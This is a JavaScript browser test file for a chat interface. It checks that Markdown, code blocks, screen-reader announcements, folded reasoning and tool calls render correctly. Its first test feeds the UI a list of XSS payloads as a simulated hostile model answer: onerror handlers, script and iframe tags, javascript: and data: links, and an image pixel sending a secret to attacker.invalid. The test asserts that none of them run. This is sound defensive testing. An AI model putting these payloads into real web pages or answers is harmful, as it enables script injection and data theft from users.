// Rendered answers in Chromium: Markdown, hostile model output, code blocks,
// reasoning and tool calls. The page talks to the real gateway; where the
// gateway cannot produce an answer (ELIZA writes no Markdown, no model here
// reasons or calls tools) the browser is handed one in the gateway's own SSE
// format instead.

import assert from "node:assert/strict";
import { before, describe, test } from "node:test";
import {
  answerWith,
  contentOf,
  lastAssistant,
  openChat,
  screenshot,
  sendMessage,
  setup,
  sseAnswer,
  startPageGateway,
  waitForAnswer,
} from "./browser.mjs";

setup();

const wide = (n) => `| ${Array.from({ length: n }, (_, i) => `column number ${i}`).join(" | ")} |`;
const HUGE_TABLE = [
  wide(30),
  `|${" --- |".repeat(30)}`,
  ...Array.from({ length: 150 }, (_, r) => `| ${Array.from({ length: 30 }, (_, c) => `r${r}c${c}`).join(" | ")} |`),
].join("\n");

const HOSTILE = [
  "Hostile answer follows.",
  `<img src=x onerror="window.__pwned='img'">`,
  `<script>window.__pwned='script'</script>`,
  `<iframe src="javascript:window.__pwned='iframe'"></iframe>`,
  `<a href="javascript:window.__pwned='html-a'">html link</a>`,
  `[js link](javascript:window.__pwned='md-js')`,
  `[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3BlbmVyLl9fcHduZWQ9J2RhdGEnPC9zY3JpcHQ+)`,
  `![pixel](https://attacker.invalid/collect?secret=1)`,
  "```html\n<script>window.__pwned='fence'</script>\n<img src=x onerror=\"window.__pwned='fence-img'\">\n```",
  "A [safe link](https://example.com/docs) at the end.",
  HUGE_TABLE,
].join("\n\n");

describe("rendered answers", () => {
  let gateway;

  before(async () => {
    gateway = await startPageGateway();
  });

  test("hostile model output executes nothing and the layout holds", { timeout: 60_000 }, async () => {
    const { page, consoleErrors } = await openChat(gateway.url, { width: 390, height: 800 });
    const requests = [];
    page.on("request", (r) => requests.push(r.url()));
    await answerWith(page, sseAnswer(HOSTILE));
    await sendMessage(page, "Say something hostile");
    await waitForAnswer(page);
    const answer = lastAssistant(page);

    assert.equal(await answer.locator("img, script, iframe, object, embed").count(), 0);
    assert.match((await contentOf(answer).textContent()) ?? "", /<img src=x onerror=/, "raw HTML is shown as text");
    assert.equal(await answer.locator('a[href^="javascript:"], a[href^="data:"]').count(), 0);
    // Clicking what looks like a link runs nothing.
    for (const name of ["js link", "data link"]) {
      await answer.getByText(name, { exact: true }).click();
    }
    await page.waitForTimeout(200);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    assert.equal(requests.filter((u) => u.includes("attacker.invalid")).length, 0, "an image was loaded");

    // Links open in a new tab with neither opener nor referrer.
    const safe = answer.getByRole("link", { name: "safe link" });
    assert.equal(await safe.getAttribute("target"), "_blank");
    assert.equal(await safe.getAttribute("rel"), "noopener noreferrer");

    // The huge table scrolls inside its box; nothing pushes the page sideways.
    const layout = await page.evaluate(() => {
      const table = document.querySelector('[data-role="assistant"] table');
      const wrap = table.parentElement;
      const msg = table.closest("li").getBoundingClientRect();
      return {
        pageOverflow: document.documentElement.scrollWidth - window.innerWidth,
        wrapRight: wrap.getBoundingClientRect().right,
        msgRight: msg.right,
        scrolls: wrap.scrollWidth > wrap.clientWidth,
      };
    });
    assert.ok(layout.pageOverflow <= 0, `page is wider than the viewport by ${layout.pageOverflow}px`);
    assert.ok(layout.wrapRight <= layout.msgRight + 1, "table box sticks out of its message");
    assert.ok(layout.scrolls, "the wide table should scroll inside its box");
    await screenshot(page, "markdown-hostile-390");
    assert.deepEqual(consoleErrors, []);
  });

  test("Markdown renders, code blocks have a language label and Copy", { timeout: 60_000 }, async () => {
    const { page, context } = await openChat(gateway.url);
    await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: gateway.url });
    const md = [
      "## Steps",
      "Use **bold**, _emphasis_, `inline code` and ~~strike~~.",
      "1. first\n2. second",
      "- [x] done\n- [ ] todo",
      "```python\ndef greet(name):\n    return f\"Hello, {name}\"\n```",
      "> quoted",
    ].join("\n\n");
    await answerWith(page, sseAnswer(md));
    await sendMessage(page, "Show me Markdown");
    await waitForAnswer(page);
    const answer = lastAssistant(page);
    await answer.getByRole("heading", { name: "Steps" }).waitFor();
    assert.equal(await answer.locator("strong").textContent(), "bold");
    assert.equal(await answer.locator("ol > li").count(), 2);
    assert.equal(await answer.locator('input[type="checkbox"]:checked').count(), 1);
    assert.equal(await answer.locator("blockquote").count(), 1);
    const code = answer.locator("figure[data-language='python']");
    assert.equal(await code.locator("figcaption span").first().textContent(), "python");
    await code.getByRole("button", { name: "Copy code" }).click();
    await code.getByRole("button", { name: "Copied" }).waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'def greet(name):\n    return f"Hello, {name}"');
    await screenshot(page, "markdown");
  });

  test("the live region announces the rendered text, not the Markdown", { timeout: 60_000 }, async () => {
    const { page } = await openChat(gateway.url);
    const md = [
      "Here is **Bold** and _soft_ text, a [link](https://example.com/target), `inline` code:",
      "- one\n- two",
      "```js\nconst x = 1;\n```",
      "> quoted ~~old~~",
    ].join("\n\n");
    await answerWith(page, sseAnswer(md));
    await sendMessage(page, "Show me Markdown");
    await waitForAnswer(page);
    const announcer = page.getByTestId("announcer");
    await page.waitForFunction(() => document.querySelector('[data-testid="announcer"]')?.textContent?.startsWith("The assistant said:"));
    const said = await announcer.textContent();
    assert.equal(said, "The assistant said: Here is Bold and soft text, a link, inline code: one two const x = 1; quoted old");
    assert.doesNotMatch(said, /[*_`~>]|https?:|```/);
    await screenshot(page, "announcement-rendered-text");
  });

  test("reasoning shows folded with its duration, tool calls as one line each", { timeout: 60_000 }, async () => {
    const { page } = await openChat(gateway.url);
    await answerWith(
      page,
      sseAnswer("It is sunny in **Paris**.", {
        reasoning: "The user asks about the weather. I should call the weather tool for Paris.",
        toolCalls: [
          { index: 0, id: "call_1", type: "function", function: { name: "get_weather", arguments: "" } },
          { index: 0, function: { arguments: '{"city":' } },
          { index: 0, function: { arguments: '"Paris","unit":"celsius"}' } },
        ],
      }),
    );
    await sendMessage(page, "Weather in Paris?");
    await waitForAnswer(page);
    const answer = lastAssistant(page);
    const details = answer.getByTestId("reasoning");
    assert.equal(await details.evaluate((d) => d.open), false, "reasoning starts folded");
    assert.match((await details.locator("summary").textContent()) ?? "", /^Thought for (less than a second|\d+ s)$/);
    assert.equal(await details.getByText("call the weather tool").isVisible(), false);
    await details.locator("summary").click();
    assert.equal(await details.getByText("call the weather tool", { exact: false }).isVisible(), true);
    assert.equal(await answer.getByTestId("tool-call").textContent(), '⚙ Called get_weather(city: "Paris", unit: "celsius")');
    assert.equal(await answer.getByTestId("model").textContent(), "Claude Sonnet 4.5");
    await screenshot(page, "reasoning-tools");
  });
});
